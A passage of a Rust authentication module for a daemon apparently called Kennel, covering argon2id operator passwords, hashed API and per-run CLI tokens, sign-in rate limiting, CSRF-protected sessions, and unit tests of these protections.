//! Who may use the daemon: operators (people, argon2id passwords) and API tokens
//! (automation; only a SHA-256 of each token is stored).
//!
//! # Design notes
//!
//! ## Layout
//!
//! Operators (argon2id, every hash through one bounded gate), sign-in attempt limits, dashboard
//! sessions and sign-in form tokens, and API tokens (SHA-256 stored, compared in constant time);
//! the CLI token of this run (`issue_cli_token`, `is_cli_token`: memory only, new at each start);
//! `store.rs`.

mod store;

use std::collections::HashMap;
use std::net::IpAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Mutex, RwLock};
use std::time::{Duration, Instant};

use argon2::Argon2;
use argon2::password_hash::phc::PasswordHash;
use argon2::password_hash::{PasswordHasher, PasswordVerifier};
use hmac::{Hmac, Mac};
use rand::RngExt;
use sha2::{Digest, Sha256};
use subtle::ConstantTimeEq;
use tokio::sync::Semaphore;

use crate::agent::{NAME_RULE, is_valid_name};
use crate::db::Db;
use crate::error::{Error, Result};

/// Prefix that makes a Kennel token recognisable in logs and secret scanners.
const TOKEN_PREFIX: &str = "kn_";
/// The prefix of the token the daemon makes for its own home's command line at each start.
const CLI_TOKEN_PREFIX: &str = "kncli_";
const MIN_PASSWORD: usize = 8;

#[derive(Debug, Clone, serde::Serialize)]
pub struct TokenInfo {
    pub name: String,
    pub created_at: String,
}

struct TokenRecord {
    name: String,
    hash: [u8; 32],
}

/// A live API token a request presented: its name, and which token of that name it is (what
/// holds it open, a live stream, ends when this one is revoked, whatever is made after it).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VerifiedToken {
    pub name: String,
    hash: [u8; 32],
}

pub struct Auth {
    db: Db,
    /// Hashes of live tokens, reloaded when another process (the CLI) changes them.
    tokens: RwLock<Vec<TokenRecord>>,
    /// Live dashboard sign-ins by the hash of their cookie value.
    sessions: RwLock<HashMap<[u8; 32], OperatorSession>>,
    /// Recent sign-in attempts per client address that have not succeeded (an attempt counts
    /// from before its password is checked until it succeeds).
    failures: Mutex<HashMap<IpAddr, Vec<Instant>>>,
    /// A new token's secret waiting to be shown, once, to the dashboard session that made it
    /// (post/redirect/get: the page after the redirect takes it).
    reveals: Mutex<HashMap<[u8; 32], (String, String)>>,
    /// Key for the sign-in forms' tokens; random at each start, never stored.
    sign_in_key: [u8; 32],
    /// Counts changes to the live tokens and sessions (a revocation, a sign-out), so what holds
    /// a credential open (a live stream) checks it again at once.
    revisions: tokio::sync::watch::Sender<u64>,
    /// The hash of this run's CLI token ([`Auth::issue_cli_token`]), if one was issued.
    cli_token: RwLock<Option<[u8; 32]>>,
}

/// A signed-in operator's dashboard session.
#[derive(Debug, Clone)]
pub struct OperatorSession {
    pub operator: String,
    /// Every form of this session carries it; a POST without it is refused.
    pub csrf: String,
    pub expires_at: chrono::DateTime<chrono::Utc>,
}

/// Proof that a signed-in operator asked for something in their dashboard session: the
/// session cookie and the form's CSRF token were both checked. Human-only operations (deleting
/// a schedule for good) take one. Only [`Auth::human_approval`] makes one, from secrets no
/// agent and no API token holds.
#[derive(Debug)]
pub struct HumanApproval {
    operator: String,
}

impl HumanApproval {
    pub fn operator(&self) -> &str {
        &self.operator
    }
}

/// How long a dashboard sign-in lasts.
pub const SESSION_HOURS: i64 = 12;
/// Failed sign-ins one address may make per window before it must wait.
pub const LOGIN_ATTEMPTS: usize = 5;
pub const LOGIN_WINDOW: Duration = Duration::from_secs(60);
/// Addresses with recent failures remembered before expired ones are swept out, so a flood
/// from many addresses cannot grow the map without end.
const TRACKED_ADDRESSES: usize = 10_000;
/// The longest notice a redirect carries to the next page.
pub const MAX_NOTICE_BYTES: usize = 1024;
/// How long a sign-in form's token (and the cookie that carries it) stays good.
pub const SIGN_IN_FORM_SECS: i64 = 3600;

/// Argon2 runs at once in this process. Each holds about 19 MiB (argon2id's default memory
/// cost) for tens of milliseconds, so this bounds the daemon's memory under a sign-in flood.
pub const HASHING_SLOTS: usize = 2;
/// Password checks that may wait for a slot; beyond that they are refused as busy (429), so a flood
/// from many addresses cannot queue without end either.
pub const HASHING_QUEUE: usize = 64;
static HASHING: HashingGate = HashingGate::new(HASHING_SLOTS, HASHING_QUEUE);

fn token_hash(token: &str) -> [u8; 32] {
    Sha256::digest(token.as_bytes()).into()
}

/// The proof the daemon holding `token` gives for `challenge`: what a CLI that read `token`
/// from `cli.token` expects back before it sends the token. After a crash another local user
/// may take the daemon's port; without the token it cannot answer, and gets no token.
pub fn cli_proof_of(token: &str, challenge: &str) -> String {
    cli_proof(&token_hash(token), challenge)
}

/// HMAC-SHA256 of `challenge` keyed by the token's hash (the daemon keeps only the hash).
fn cli_proof(hash: &[u8; 32], challenge: &str) -> String {
    let mut mac = <Hmac<Sha256> as Mac>::new_from_slice(hash).expect("HMAC takes any key length");
    mac.update(b"kennel-cli-proof:");
    mac.update(challenge.as_bytes());
    hex::encode(mac.finalize().into_bytes())
}

fn check_name(name: &str) -> Result<()> {
    if is_valid_name(name) { Ok(()) } else { Err(Error::invalid(format!("`{name}` is not a valid name: {NAME_RULE}"))) }
}

impl Auth {
    pub(crate) async fn load(db: Db) -> Result<Auth> {
        let auth = Auth {
            db,
            tokens: RwLock::new(Vec::new()),
            sessions: RwLock::default(),
            failures: Mutex::default(),
            reveals: Mutex::default(),
            sign_in_key: rand::rng().random(),
            revisions: tokio::sync::watch::Sender::new(0),
            cli_token: RwLock::new(None),
        };
        auth.reload().await?;
        store::drop_expired_sessions(&auth.db, &chrono::Utc::now().to_rfc3339()).await?;
        auth.load_sessions().await?;
        Ok(auth)
    }

    pub async fn reload(&self) -> Result<()> {
        let records = store::tokens(&self.db)
            .await?
            .into_iter()
            .filter_map(|t| {
                let mut hash = [0u8; 32];
                hex::decode_to_slice(&t.hash, &mut hash).ok()?;
                Some(TokenRecord { name: t.name, hash })
            })
            .collect();
        *self.tokens.write().expect("token lock") = records;
        self.revisions.send_modify(|r| *r += 1);
        Ok(())
    }

    /// Changes when a token or a session may have stopped being live.
    pub fn revisions(&self) -> tokio::sync::watch::Receiver<u64> {
        self.revisions.subscribe()
    }

    /// Whether `token` is still live: not revoked, even if a token of its name was made again.
    pub fn token_is_live(&self, token: &VerifiedToken) -> bool {
        self.tokens.read().expect("token lock").iter().any(|t| t.hash == token.hash)
    }

    /// Creates a token and returns it; this is the only time it can be seen.
    pub async fn create_token(&self, name: &str) -> Result<String> {
        check_name(name)?;
        let secret: [u8; 32] = rand::rng().random();
        let token = format!("{TOKEN_PREFIX}{}", hex::encode(secret));
        store::insert_token(&self.db, name, &hex::encode(token_hash(&token))).await?;
        self.reload().await?;
        Ok(token)
    }

    pub async fn revoke_token(&self, name: &str) -> Result<()> {
        if !store::delete_token(&self.db, name).await? {
            return Err(Error::not_found(format!("no token named `{name}`")));
        }
        self.reload().await
    }

    pub async fn list_tokens(&self) -> Result<Vec<TokenInfo>> {
        store::list_tokens(&self.db).await
    }

    /// Makes the token the command line of this home uses to reach this run of the daemon,
    /// replacing any earlier one. It lives only in memory (and in the file the daemon writes
    /// it to, readable by the home's owner alone), so each start makes a new one and a copy
    /// taken from an earlier run is worthless.
    pub fn issue_cli_token(&self) -> String {
        let secret: [u8; 32] = rand::rng().random();
        let token = format!("{CLI_TOKEN_PREFIX}{}", hex::encode(secret));
        *self.cli_token.write().expect("cli token lock") = Some(token_hash(&token));
        token
    }

    /// This run's answer to a CLI's `challenge`: proof that it is the daemon that wrote
    /// `cli.token`, given before the CLI sends the token anywhere ([`cli_proof_of`]). `None`
    /// before a CLI token is issued.
    pub fn prove_cli(&self, challenge: &str) -> Option<String> {
        let hash = (*self.cli_token.read().expect("cli token lock"))?;
        Some(cli_proof(&hash, challenge))
    }

    /// Whether `token` is this run's CLI token, compared in constant time.
    pub fn is_cli_token(&self, token: &str) -> bool {
        let presented = token_hash(token);
        self.cli_token.read().expect("cli token lock").is_some_and(|hash| bool::from(hash.ct_eq(&presented)))
    }

    /// The token, if it is live. Every stored hash is compared in constant time, so timing
    /// says nothing about which (or whether any) token nearly matched.
    pub fn verify_token(&self, token: &str) -> Option<VerifiedToken> {
        let presented = token_hash(token);
        let mut found = None;
        for record in self.tokens.read().expect("token lock").iter() {
            if bool::from(record.hash.ct_eq(&presented)) {
                found = Some(VerifiedToken { name: record.name.clone(), hash: record.hash });
            }
        }
        found
    }

    /// Adds an operator with an argon2id hash of `password`.
    pub async fn add_operator(&self, name: &str, password: &str) -> Result<()> {
        check_new_operator(name, password)?;
        let hash = hash_password(password).await?;
        store::insert_operator(&self.db, name, &hash).await
    }

    /// Adds the first operator, only while there is none. "None yet" and the insert are one
    /// statement, so of several setups racing exactly one creates an operator; the others
    /// get `Conflict`.
    pub async fn add_first_operator(&self, name: &str, password: &str) -> Result<()> {
        check_new_operator(name, password)?;
        let hash = hash_password(password).await?;
        if !store::insert_first_operator(&self.db, name, &hash).await? {
            return Err(Error::conflict(
                "the first operator has been created already; sign in, or add operators with `kennel operator add`",
            ));
        }
        Ok(())
    }

    /// Whether `name` / `password` is a valid operator sign-in. An unknown name costs the
    /// same hashing work as a wrong password, so the two cannot be told apart by timing.
    pub async fn verify_operator(&self, name: &str, password: &str) -> Result<bool> {
        let stored = store::password_hash(&self.db, name).await?;
        let known = stored.is_some();
        let hash = match stored {
            Some(h) => h,
            None => dummy_hash().await?,
        };
        let password = password.to_string();
        let ok = HASHING
            .run(move || {
                PasswordHash::new(&hash)
                    .map(|h| Argon2::default().verify_password(password.as_bytes(), &h).is_ok())
                    .unwrap_or(false)
            })
            .await?;
        Ok(known && ok)
    }

    pub async fn operator_count(&self) -> Result<i64> {
        store::operator_count(&self.db).await
    }

    // ---- dashboard sign-in ----

    /// Signs an operator in: takes one of the address's attempts, then checks the password.
    /// On success returns the cookie value (shown to no one else) and the session. A wrong
    /// password and an unknown operator get the same error.
    ///
    /// The attempt is counted before argon2 runs and given back only on success (or when no
    /// password could be checked: the server was busy), so however
    /// many requests one address sends at once, at most [`LOGIN_ATTEMPTS`] per window reach
    /// the password check; the rest are `ResourceExhausted` at once.
    pub async fn sign_in(&self, client: IpAddr, name: &str, password: &str) -> Result<(String, OperatorSession)> {
        let client = limited_as(client);
        let attempt = self.take_attempt(client)?;
        match self.verify_operator(name, password).await {
            Ok(true) => {
                self.failures.lock().expect("failures lock").remove(&client);
                self.open_session(name).await
            }
            Ok(false) => Err(Error::forbidden("unknown operator or wrong password")),
            Err(e) => {
                // No password was checked (the server was busy, or the database failed):
                // that is not the visitor's attempt to lose.
                self.give_back_attempt(client, attempt);
                Err(e)
            }
        }
    }

    /// Counts an attempt from `client`, or says how long it must wait.
    fn take_attempt(&self, client: IpAddr) -> Result<Instant> {
        let mut failures = self.failures.lock().expect("failures lock");
        if failures.len() >= TRACKED_ADDRESSES {
            failures.retain(|_, times| times.iter().any(|t| t.elapsed() < LOGIN_WINDOW));
        }
        let recent = failures.entry(client).or_default();
        recent.retain(|t| t.elapsed() < LOGIN_WINDOW);
        if recent.len() >= LOGIN_ATTEMPTS {
            let wait = LOGIN_WINDOW.saturating_sub(recent[0].elapsed());
            return Err(Error::new(
                crate::ErrorKind::ResourceExhausted,
                format!("too many failed sign-ins from this address; try again in {} s", wait.as_secs().max(1)),
            ));
        }
        let now = Instant::now();
        recent.push(now);
        Ok(now)
    }

    fn give_back_attempt(&self, client: IpAddr, attempt: Instant) {
        let mut failures = self.failures.lock().expect("failures lock");
        if let Some(recent) = failures.get_mut(&client)
            && let Some(at) = recent.iter().position(|t| *t == attempt)
        {
            recent.remove(at);
        }
    }

    /// A token for the sign-in forms (`/setup`, `/login`), which have no session to hold one:
    /// the page sets it as a cookie and as a form field, and the POST must bring both. Only
    /// the daemon can make one (it carries a MAC under a key that never leaves this process),
    /// so a value a visitor or another site chose is never accepted. Good for
    /// [`SIGN_IN_FORM_SECS`]; a restart invalidates it (the form is simply reloaded).
    pub fn mint_sign_in_token(&self) -> String {
        self.sign_in_token_issued_at(chrono::Utc::now().timestamp())
    }

    fn sign_in_token_issued_at(&self, issued: i64) -> String {
        let nonce: [u8; 16] = rand::rng().random();
        let mac = self.sign_in_mac(issued, &nonce);
        format!("{}{}{}", hex::encode(issued.to_be_bytes()), hex::encode(nonce), hex::encode(mac))
    }

    /// Whether `token` is one [`Auth::mint_sign_in_token`] made, and still fresh.
    pub fn sign_in_token_valid(&self, token: &str) -> bool {
        let mut raw = [0u8; 8 + 16 + 32];
        if hex::decode_to_slice(token, &mut raw).is_err() {
            return false;
        }
        let (issued, rest) = raw.split_at(8);
        let (nonce, mac) = rest.split_at(16);
        let issued = i64::from_be_bytes(issued.try_into().expect("8 bytes"));
        // The MAC first: until it holds, `issued` is whatever the visitor sent (even i64::MIN).
        bool::from(self.sign_in_mac(issued, nonce).ct_eq(mac))
            && chrono::Utc::now()
                .timestamp()
                .checked_sub(issued)
                .is_some_and(|age| (0..SIGN_IN_FORM_SECS).contains(&age))
    }

    /// A one-time notice for the next page of the session signed in with `cookie` ("Agent x
    /// stopped."), sealed so that only this run of the daemon makes one and only that session
    /// reads it: a link can no longer put words in the dashboard's notice. At most
    /// [`MAX_NOTICE_BYTES`] of `text` (cut at a character).
    pub fn seal_notice(&self, cookie: &str, text: &str) -> String {
        use base64::Engine as _;
        let text = &text[..text.floor_char_boundary(MAX_NOTICE_BYTES)];
        let encoded = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(text);
        format!("{encoded}.{}", hex::encode(self.notice_mac(cookie, text.as_bytes())))
    }

    /// The notice `sealed` carries, if [`Auth::seal_notice`] made it for this session.
    pub fn open_notice(&self, cookie: &str, sealed: &str) -> Option<String> {
        use base64::Engine as _;
        let (encoded, mac) = sealed.split_once('.')?;
        let text = base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(encoded).ok()?;
        let mut presented = [0u8; 32];
        hex::decode_to_slice(mac, &mut presented).ok()?;
        bool::from(self.notice_mac(cookie, &text).ct_eq(&presented)).then(|| String::from_utf8(text).ok()).flatten()
    }

    /// HMAC-SHA-256 of a session and a notice under this process's key.
    fn notice_mac(&self, cookie: &str, text: &[u8]) -> [u8; 32] {
        let mut mac = <Hmac<Sha256> as Mac>::new_from_slice(&self.sign_in_key).expect("HMAC takes any key length");
        mac.update(b"notice\0");
        mac.update(&token_hash(cookie));
        mac.update(text);
        mac.finalize().into_bytes().into()
    }

    /// HMAC-SHA-256 of the token's issue time and nonce under this process's key.
    fn sign_in_mac(&self, issued: i64, nonce: &[u8]) -> [u8; 32] {
        let mut mac = <Hmac<Sha256> as Mac>::new_from_slice(&self.sign_in_key).expect("HMAC takes any key length");
        mac.update(&issued.to_be_bytes());
        mac.update(nonce);
        mac.finalize().into_bytes().into()
    }

    /// Opens a session for an operator who has proved who they are.
    pub async fn open_session(&self, operator: &str) -> Result<(String, OperatorSession)> {
        let cookie = format!("ks_{}", hex::encode(rand::rng().random::<[u8; 32]>()));
        let session = OperatorSession {
            operator: operator.to_string(),
            csrf: new_form_token(),
            expires_at: chrono::Utc::now() + chrono::Duration::hours(SESSION_HOURS),
        };
        let hash = token_hash(&cookie);
        let stored = store::StoredSession {
            hash: hex::encode(hash),
            operator: operator.to_string(),
            csrf: session.csrf.clone(),
            expires_at: session.expires_at.to_rfc3339(),
        };
        store::insert_session(&self.db, &stored).await?;
        self.sessions.write().expect("sessions lock").insert(hash, session.clone());
        Ok((cookie, session))
    }

    /// The live session a cookie value belongs to; expired sessions are gone.
    pub fn session(&self, cookie: &str) -> Option<OperatorSession> {
        let hash = token_hash(cookie);
        let session = self.sessions.read().expect("sessions lock").get(&hash).cloned()?;
        (session.expires_at > chrono::Utc::now()).then_some(session)
    }

    /// Keeps token `name`'s secret for the next page of the session signed in with `cookie`.
    pub fn hold_reveal(&self, cookie: &str, name: &str, secret: &str) {
        self.reveals.lock().expect("reveals lock").insert(token_hash(cookie), (name.to_string(), secret.to_string()));
    }

    /// The secret held for this session, if any: handed out once, then gone.
    pub fn take_reveal(&self, cookie: &str) -> Option<(String, String)> {
        self.reveals.lock().expect("reveals lock").remove(&token_hash(cookie))
    }

    /// A [`HumanApproval`] for the operator signed in with `cookie`, if `csrf` is that
    /// session's form token.
    pub fn human_approval(&self, cookie: &str, csrf: &str) -> Result<HumanApproval> {
        let session = self.session(cookie).ok_or_else(|| {
            Error::forbidden("this needs an operator signed in to the dashboard; sign in and try again there")
        })?;
        if !secrets_match(&session.csrf, csrf) {
            return Err(Error::forbidden("the form's CSRF token does not match your session; reload the page"));
        }
        Ok(HumanApproval { operator: session.operator })
    }

    /// Signs out: the cookie value stops working at once.
    pub async fn close_session(&self, cookie: &str) -> Result<()> {
        let hash = token_hash(cookie);
        self.sessions.write().expect("sessions lock").remove(&hash);
        self.revisions.send_modify(|r| *r += 1);
        store::delete_session(&self.db, &hex::encode(hash)).await
    }

    /// Reads the sign-ins again (another daemon of the cluster made or ended one): a session
    /// ended elsewhere ends here, with its streams.
    pub(crate) async fn reload_sessions(&self) -> Result<()> {
        self.load_sessions().await?;
        self.revisions.send_modify(|r| *r += 1);
        Ok(())
    }

    async fn load_sessions(&self) -> Result<()> {
        let sessions = store::live_sessions(&self.db, &chrono::Utc::now().to_rfc3339())
            .await?
            .into_iter()
            .filter_map(|s| {
                let mut hash = [0u8; 32];
                hex::decode_to_slice(&s.hash, &mut hash).ok()?;
                let expires_at = chrono::DateTime::parse_from_rfc3339(&s.expires_at).ok()?.with_timezone(&chrono::Utc);
                Some((hash, OperatorSession { operator: s.operator, csrf: s.csrf, expires_at }))
            })
            .collect();
        *self.sessions.write().expect("sessions lock") = sessions;
        Ok(())
    }
}

/// The address whose attempts `client`'s count against: an IPv4 address as it is (also when it
/// arrives IPv4-mapped), an IPv6 address by its /64, since one host commonly holds a whole /64
/// and could otherwise take a fresh address for every guess.
fn limited_as(client: IpAddr) -> IpAddr {
    match client {
        IpAddr::V6(v6) => match v6.to_ipv4_mapped() {
            Some(v4) => IpAddr::V4(v4),
            None => IpAddr::V6((u128::from(v6) & !u128::from(u64::MAX)).into()),
        },
        v4 => v4,
    }
}

/// A fresh random token for a form (48 hex characters).
pub fn new_form_token() -> String {
    hex::encode(rand::rng().random::<[u8; 24]>())
}

/// Compares two secrets in constant time (CSRF tokens and the like). An empty secret never
/// matches.
pub fn secrets_match(a: &str, b: &str) -> bool {
    !a.is_empty() && a.len() == b.len() && bool::from(a.as_bytes().ct_eq(b.as_bytes()))
}

fn check_new_operator(name: &str, password: &str) -> Result<()> {
    check_name(name)?;
    if password.chars().count() < MIN_PASSWORD {
        return Err(Error::invalid(format!("a password needs at least {MIN_PASSWORD} characters")));
    }
    Ok(())
}

/// An argon2id hash (default parameters) of `password`.
async fn hash_password(password: &str) -> Result<String> {
    let password = password.to_string();
    HASHING
        .run(move || Argon2::default().hash_password(password.as_bytes()).map(|h| h.to_string()))
        .await?
        .map_err(|e| Error::internal(format_args!("hashing failed: {e}")))
}

/// An argon2id hash (default parameters) of a random password, checked against when the
/// operator is unknown so that case costs the same work as a wrong password.
async fn dummy_hash() -> Result<String> {
    static DUMMY: tokio::sync::OnceCell<String> = tokio::sync::OnceCell::const_new();
    DUMMY
        .get_or_try_init(|| async {
            let password = hex::encode(rand::rng().random::<[u8; 16]>());
            hash_password(&password).await
        })
        .await
        .cloned()
}

/// The one way argon2 runs: at most `slots` at once on the blocking pool, at most `queue`
/// more waiting, and anything beyond refused as busy.
struct HashingGate {
    slots: Semaphore,
    /// Runs admitted: waiting for a slot or holding one.
    admitted: AtomicUsize,
    capacity: usize,
}

impl HashingGate {
    const fn new(slots: usize, queue: usize) -> HashingGate {
        HashingGate { slots: Semaphore::const_new(slots), admitted: AtomicUsize::new(0), capacity: slots + queue }
    }

    async fn run<T: Send + 'static>(&'static self, work: impl FnOnce() -> T + Send + 'static) -> Result<T> {
        let admitted = self.admit()?;
        let slot = self.slots.acquire().await.map_err(|_| Error::internal("password hashing has stopped"))?;
        // The slot goes with the work: should the caller stop waiting (a client that hung
        // up), the slot stays taken until the hashing has really finished.
        tokio::task::spawn_blocking(move || {
            let _held = (admitted, slot);
            work()
        })
        .await
        .map_err(|e| Error::internal(format_args!("password hashing failed: {e}")))
    }

    fn admit(&'static self) -> Result<Admitted> {
        self.admitted
            .fetch_update(Ordering::AcqRel, Ordering::Acquire, |n| (n < self.capacity).then_some(n + 1))
            .map_err(|_| {
                Error::new(
                    crate::ErrorKind::ResourceExhausted,
                    "the server is busy checking other passwords; try again in a few seconds",
                )
            })?;
        Ok(Admitted(&self.admitted))
    }
}

/// One admitted run; leaving makes room.
struct Admitted(&'static AtomicUsize);

impl Drop for Admitted {
    fn drop(&mut self) {
        self.0.fetch_sub(1, Ordering::AcqRel);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    async fn auth() -> (tempfile::TempDir, Auth) {
        let dir = tempfile::tempdir().unwrap();
        let db = crate::db::open_for_test(dir.path()).await;
        (dir, Auth::load(db).await.unwrap())
    }

    #[tokio::test]
    async fn operators_verify_only_with_their_password() {
        let (_dir, auth) = auth().await;
        auth.add_operator("ada", "correct horse").await.unwrap();
        assert!(auth.verify_operator("ada", "correct horse").await.unwrap());
        assert!(!auth.verify_operator("ada", "wrong horse").await.unwrap());
        assert!(!auth.verify_operator("nobody", "correct horse").await.unwrap());
        assert_eq!(auth.operator_count().await.unwrap(), 1);
        assert_eq!(auth.add_operator("ada", "another one").await.unwrap_err().kind, crate::ErrorKind::Conflict);
        assert_eq!(
            auth.add_operator("Ada Lovelace", "correct horse").await.unwrap_err().kind,
            crate::ErrorKind::InvalidArguments
        );
    }

    fn client() -> IpAddr {
        IpAddr::from([192, 0, 2, 7])
    }

    #[tokio::test]
    async fn wrong_sign_ins_sent_at_once_from_one_address_check_at_most_five_passwords() {
        let (_dir, auth) = auth().await;
        auth.add_operator("ada", "correct horse").await.unwrap();
        let attempts = (0..20).map(|_| auth.sign_in(client(), "ada", "wrong horse"));
        let kinds: Vec<_> =
            futures_util::future::join_all(attempts).await.into_iter().map(|r| r.unwrap_err().kind).collect();
        let checked = kinds.iter().filter(|k| **k == crate::ErrorKind::Forbidden).count();
        let refused = kinds.iter().filter(|k| **k == crate::ErrorKind::ResourceExhausted).count();
        assert_eq!((checked, refused), (LOGIN_ATTEMPTS, 20 - LOGIN_ATTEMPTS), "{kinds:?}");
        // Another address is not held up.
        assert!(auth.sign_in(IpAddr::from([192, 0, 2, 8]), "ada", "correct horse").await.is_ok());
    }

    #[tokio::test]
    async fn a_successful_sign_in_clears_the_addresss_failures() {
        let (_dir, auth) = auth().await;
        auth.add_operator("ada", "correct horse").await.unwrap();
        for _ in 0..LOGIN_ATTEMPTS - 1 {
            assert_eq!(auth.sign_in(client(), "ada", "guess").await.unwrap_err().kind, crate::ErrorKind::Forbidden);
        }
        assert!(auth.sign_in(client(), "ada", "correct horse").await.is_ok());
        for _ in 0..LOGIN_ATTEMPTS {
            assert_eq!(auth.sign_in(client(), "bob", "guess").await.unwrap_err().kind, crate::ErrorKind::Forbidden);
        }
        let limited = auth.sign_in(client(), "ada", "correct horse").await.unwrap_err();
        assert_eq!(limited.kind, crate::ErrorKind::ResourceExhausted);
        assert!(limited.message.contains("too many failed sign-ins"), "{}", limited.message);
    }

    #[tokio::test]
    async fn hashing_runs_a_few_at_once_queues_a_few_more_and_refuses_the_rest() {
        let gate: &'static HashingGate = Box::leak(Box::new(HashingGate::new(2, 3)));
        let running = std::sync::Arc::new(AtomicUsize::new(0));
        let peak = std::sync::Arc::new(AtomicUsize::new(0));
        let runs = (0..10).map(|_| {
            let (running, peak) = (running.clone(), peak.clone());
            gate.run(move || {
                let now = running.fetch_add(1, Ordering::SeqCst) + 1;
                peak.fetch_max(now, Ordering::SeqCst);
                std::thread::sleep(Duration::from_millis(50));
                running.fetch_sub(1, Ordering::SeqCst);
            })
        });
        let results = futures_util::future::join_all(runs).await;
        let done = results.iter().filter(|r| r.is_ok()).count();
        let busy = results.iter().filter(|r| r.as_ref().is_err_and(|e| e.kind == crate::ErrorKind::ResourceExhausted));
        assert_eq!((done, busy.count()), (5, 5), "2 slots + 3 waiting; the rest are refused");
        assert_eq!(peak.load(Ordering::SeqCst), 2);
        assert!(gate.run(|| ()).await.is_ok(), "room again once the runs are done");
    }

    #[tokio::test]
    async fn a_caller_that_gives_up_keeps_its_slot_until_the_hashing_ends() {
        let gate: &'static HashingGate = Box::leak(Box::new(HashingGate::new(1, 0)));
        let (finished_tx, finished_rx) = std::sync::mpsc::channel();
        let gave_up = tokio::time::timeout(
            Duration::from_millis(20),
            gate.run(move || {
                std::thread::sleep(Duration::from_millis(200));
                finished_tx.send(()).unwrap();
            }),
        )
        .await;
        assert!(gave_up.is_err());
        assert_eq!(gate.run(|| ()).await.unwrap_err().kind, crate::ErrorKind::ResourceExhausted, "still hashing");
        tokio::task::spawn_blocking(move || finished_rx.recv().unwrap()).await.unwrap();
        // The slot is let go just after the work's last line.
        for _ in 0..100 {
            if gate.slots.available_permits() == 1 {
                break;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        assert!(gate.run(|| ()).await.is_ok(), "the slot came back when the work ended");
    }

    #[tokio::test]
    async fn of_racing_first_operators_exactly_one_is_created() {
        let (_dir, auth) = auth().await;
        let names: Vec<String> = (0..8).map(|i| format!("op{i}")).collect();
        let setups = names.iter().map(|n| auth.add_first_operator(n, "correct horse"));
        let results = futures_util::future::join_all(setups).await;
        let created = results.iter().filter(|r| r.is_ok()).count();
        let refused = results.iter().filter(|r| r.as_ref().is_err_and(|e| e.kind == crate::ErrorKind::Conflict));
        assert_eq!((created, refused.count()), (1, 7));
        assert_eq!(auth.operator_count().await.unwrap(), 1);
        // More operators come from `kennel operator add`.
        auth.add_operator("bea", "correct horse").await.unwrap();
        assert_eq!(auth.operator_count().await.unwrap(), 2);
        assert_eq!(
            auth.add_first_operator("cy", "short").await.unwrap_err().kind,
            crate::ErrorKind::InvalidArguments,
            "input is checked before anything else"
        );
    }

    #[tokio::test]
    async fn sign_in_tokens_are_only_the_ones_this_daemon_minted_recently() {
        let (_dir, auth) = auth().await;
        let (_dir2, other) = self::auth().await;
        let token = auth.mint_sign_in_token();
        assert!(auth.sign_in_token_valid(&token));
        assert_ne!(token, auth.mint_sign_in_token(), "a fresh nonce each time");
        assert!(!other.sign_in_token_valid(&token), "another daemon's key");
        let mut tampered = token.clone().into_bytes();
        let last = tampered.len() - 1;
        tampered[last] = if tampered[last] == b'0' { b'1' } else { b'0' };
        assert!(!auth.sign_in_token_valid(std::str::from_utf8(&tampered).unwrap()));
        assert!(!auth.sign_in_token_valid(&new_form_token()), "a well-formed value the client chose");
        assert!(!auth.sign_in_token_valid(""));
        assert!(!auth.sign_in_token_valid(&format!("{token}00")));
        let now = chrono::Utc::now().timestamp();
        assert!(!auth.sign_in_token_valid(&auth.sign_in_token_issued_at(now - SIGN_IN_FORM_SECS - 1)), "expired");
        assert!(!auth.sign_in_token_valid(&auth.sign_in_token_issued_at(now + 600)), "from the future");
        assert!(auth.sign_in_token_valid(&auth.sign_in_token_issued_at(now - SIGN_IN_FORM_SECS + 60)));
        // Extreme issue times, forged or even MACed, are refused without overflowing.
        let forged = format!("{}{}", hex::encode(i64::MIN.to_be_bytes()), "ab".repeat(48));
        assert!(!auth.sign_in_token_valid(&forged));
        assert!(!auth.sign_in_token_valid(&auth.sign_in_token_issued_at(i64::MIN)));
        assert!(!auth.sign_in_token_valid(&auth.sign_in_token_issued_at(i64::MAX)));
    }

    #[test]
    fn attempts_count_per_ipv4_address_and_per_ipv6_64() {
        let at = |s: &str| limited_as(s.parse().unwrap());
        assert_eq!(at("192.0.2.7"), at("::ffff:192.0.2.7"), "an IPv4-mapped address is its IPv4 address");
        assert_ne!(at("192.0.2.7"), at("192.0.2.8"));
        assert_eq!(at("2001:db8:1:2::1"), at("2001:db8:1:2:ffff:ffff:ffff:ffff"), "one /64");
        assert_ne!(at("2001:db8:1:2::1"), at("2001:db8:1:3::1"));
    }

    #[tokio::test]
    async fn a_cli_token_is_good_until_the_next_is_issued_and_is_no_api_token() {
        let (_dir, auth) = auth().await;
        assert!(!auth.is_cli_token("kncli_"), "none issued yet");
        let first = auth.issue_cli_token();
        assert!(first.starts_with(CLI_TOKEN_PREFIX) && first.len() == CLI_TOKEN_PREFIX.len() + 64);
        assert!(auth.is_cli_token(&first));
        assert_eq!(auth.verify_token(&first), None, "not an API token");
        let second = auth.issue_cli_token();
        assert!(auth.is_cli_token(&second));
        assert!(!auth.is_cli_token(&first), "a new start's token replaces the old one");
        assert!(!auth.is_cli_token(&second[..second.len() - 1]));
    }

    #[tokio::test]
    async fn tokens_verify_until_revoked() {
        let (_dir, auth) = auth().await;
        let token = auth.create_token("ci").await.unwrap();
        let other = auth.create_token("cd").await.unwrap();
        assert_eq!(auth.verify_token(&token).map(|t| t.name).as_deref(), Some("ci"));
        assert_eq!(auth.verify_token(&other).map(|t| t.name).as_deref(), Some("cd"));
        assert_eq!(auth.verify_token("kn_guess"), None);
        auth.revoke_token("ci").await.unwrap();
        assert_eq!(auth.verify_token(&token), None);
        assert_eq!(auth.verify_token(&other).map(|t| t.name).as_deref(), Some("cd"));
        assert_eq!(auth.revoke_token("ci").await.unwrap_err().kind, crate::ErrorKind::NotFound);
    }

    #[tokio::test]
    async fn a_token_made_again_under_a_revoked_ones_name_is_another_token() {
        let (_dir, auth) = auth().await;
        let first = auth.verify_token(&auth.create_token("watcher").await.unwrap()).unwrap();
        assert!(auth.token_is_live(&first));
        auth.revoke_token("watcher").await.unwrap();
        let again = auth.verify_token(&auth.create_token("watcher").await.unwrap()).unwrap();
        assert_eq!(again.name, first.name);
        assert!(!auth.token_is_live(&first), "what the first token holds open ends");
        assert!(auth.token_is_live(&again));
    }

    #[tokio::test]
